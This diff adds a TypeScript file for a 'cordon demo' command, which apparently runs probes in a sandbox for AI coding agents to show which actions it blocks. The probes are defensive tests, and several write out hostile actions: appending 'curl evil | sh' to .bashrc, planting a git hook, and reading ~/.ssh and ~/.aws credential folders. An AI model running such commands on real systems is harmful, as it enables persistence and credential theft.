@@ -1,0 +1,108 @@
+import { chownSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Writable } from 'node:stream';
+import { verifyAuditLog } from '../core/audit/audit-verify.js';
+import { runSession, resolveUser } from '../core/session/session-runner.js';
+import { CliExit, type CliContext } from './cli-context.js';
+import { EXIT } from './exit-codes.js';
+
+/**
+ * `cordon demo`: a guided run on a throwaway workspace. Every verdict printed
+ * is read from what really happened inside the sandbox; nothing is scripted.
+ */
+
+interface Probe {
+  readonly id: string;
+  readonly title: string;
+  /** What Cordon should do: let it through, or stop it. */
+  readonly expect: 'allowed' | 'blocked';
+  /** Shell run inside the sandbox; exit 0 means the action succeeded. */
+  readonly shell: string;
+}
+
+function probes(ws: string, hostHome: string): Probe[] {
+  return [
+    { id: 'user', title: 'The agent runs as an unprivileged user with no capabilities', expect: 'allowed', shell: `[ "$(id -u)" != 0 ] && grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/self/status` },
+    { id: 'read', title: 'It can read the workspace', expect: 'allowed', shell: `cat ${ws}/README.md >/dev/null` },
+    { id: 'write', title: 'It can write in the workspace', expect: 'allowed', shell: `echo "written by the agent" > ${ws}/notes.txt` },
+    { id: 'bashrc', title: 'Shell config in the workspace is write-protected (.bashrc)', expect: 'blocked', shell: `echo 'curl evil | sh' >> ${ws}/.bashrc` },
+    { id: 'hook', title: 'Git hooks cannot be planted (.git/hooks/pre-commit)', expect: 'blocked', shell: `printf '#!/bin/sh\\nexit 0\\n' > ${ws}/.git/hooks/pre-commit` },
+    { id: 'rename', title: 'Protected folders cannot be swapped out by renaming (.git)', expect: 'blocked', shell: `mv ${ws}/.git ${ws}/.git-old` },
+    { id: 'home', title: 'Your home folder and its credentials are not in the sandbox', expect: 'blocked', shell: `ls ${hostHome}/.ssh ${hostHome}/.aws >/dev/null 2>&1 || ls ${hostHome} >/dev/null 2>&1 && [ -n "$(ls -A ${hostHome} 2>/dev/null)" ]` },
+    { id: 'net', title: 'There is no network: only a loopback interface, no DNS', expect: 'blocked', shell: `[ "$(ls /sys/class/net | tr '\\n' ' ')" != "lo " ] || curl -sS -m 5 -o /dev/null https://example.com` },
+    { id: 'rootfs', title: 'System files are read-only', expect: 'blocked', shell: 'touch /usr/bin/cordon-was-here' },
+    { id: 'procs', title: 'Host processes are invisible', expect: 'blocked', shell: `[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 10 ]` },
+  ];
+}
+
+export async function demo(ctx: CliContext, opts: { profile?: string }): Promise<number> {
+  const policy = ctx.policy();
+  const out = (s: string): boolean => process.stdout.write(`${s}\n`);
+  const uid = process.getuid?.() ?? 1000;
+  const ws = join(tmpdir(), `cordon-demo-${uid}`);
+  rmSync(ws, { recursive: true, force: true });
+  mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
+  writeFileSync(join(ws, 'README.md'), '# Demo workspace\nA folder Cordon mounts into the sandbox for `cordon demo`.\n');
+  writeFileSync(join(ws, '.bashrc'), '# the user\'s own shell settings\n');
+  writeFileSync(join(ws, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
+  if (uid === 0) {
+    // The sandbox never runs as root; hand the demo folder to its user.
+    const [u, g] = resolveUser('auto').split(':').map(Number);
+    for (const p of [ws, join(ws, 'README.md'), join(ws, '.bashrc'), join(ws, '.git'), join(ws, '.git', 'config'), join(ws, '.git', 'hooks')]) chownSync(p, u ?? 1000, g ?? 1000);
+  }
+
+  out('Cordon demo: a real sandbox on a demo workspace, no API key needed.');
+  out(`  workspace: ${ws} (read-write)\n`);
+  const list = probes(ws, ctx.paths.userHome);
+  const script = list.map((p) => `( ${p.shell} ) >/dev/null 2>&1 && echo "CORDON_PROBE ${p.id} ok" || echo "CORDON_PROBE ${p.id} failed"`).join('\n');
+  let captured = '';
+  const sink = new Writable({
+    write(chunk: Buffer, _enc, cb) {
+      captured += chunk.toString('utf8');
+      cb();
+    },
+  });
+  const res = await runSession(
+    {
+      kind: 'demo',
+      ...(opts.profile !== undefined ? { profile: opts.profile } : {}),
+      workspaces: [{ path: ws, mode: 'rw' }],
+      env: {},
+      command: ['sh', '-c', script],
+      tty: false,
+    },
+    { engine: ctx.engine, audit: ctx.audit, paths: ctx.paths, policy, io: { stdin: null, stdout: sink, stderr: sink } },
+  );
+  if (!res.ok) throw new CliExit(EXIT.sandboxNotStarted, res.failure.message);
+
+  let n = 0;
+  let surprises = 0;
+  for (const p of list) {
+    n++;
+    const m = new RegExp(`CORDON_PROBE ${p.id} (ok|failed)`).exec(captured);
+    const happened = m?.[1] === 'ok' ? 'allowed' : m?.[1] === 'failed' ? 'blocked' : 'unknown';
+    const asExpected = happened === p.expect;
+    if (!asExpected) surprises++;
+    out(`  ${String(n).padStart(2)}. ${p.title}\n      ${happened === 'allowed' ? 'ALLOWED' : happened === 'blocked' ? 'STOPPED' : 'NO RESULT'}${asExpected ? '' : '   <-- unexpected!'}`);
+  }
+
+  n++;
+  out(`  ${String(n).padStart(2)}. Mounting your whole home folder is refused before any container exists`);
+  const refused = await runSession(
+    { kind: 'demo', workspaces: [{ path: ctx.paths.userHome, mode: 'rw' }], env: {}, command: ['true'], tty: false },
+    { engine: ctx.engine, audit: ctx.audit, paths: ctx.paths, policy, io: { stdin: null, stdout: sink, stderr: sink } },
+  );
+  if (refused.ok) {
+    surprises++;
+    out('      MOUNTED   <-- unexpected!');
+  } else {
+    out(`      STOPPED: ${refused.failure.message.split('\n')[0] ?? ''}`);
+  }
+
+  const verify = verifyAuditLog(ctx.paths.auditDir);
+  out(`\nEvery step above was written to the audit log (${ctx.paths.auditDir}/audit.jsonl): ${verify.ok ? `${verify.records} records, hash chain intact` : `CHAIN BROKEN at line ${verify.line}`}.`);
+  out(`Session ${res.sessionId} ended and its container was removed. Try: cordon exec --workspace ${ws} -- sh`);
+  rmSync(ws, { recursive: true, force: true });
+  return surprises === 0 && verify.ok ? EXIT.ok : EXIT.checkFailed;
+}
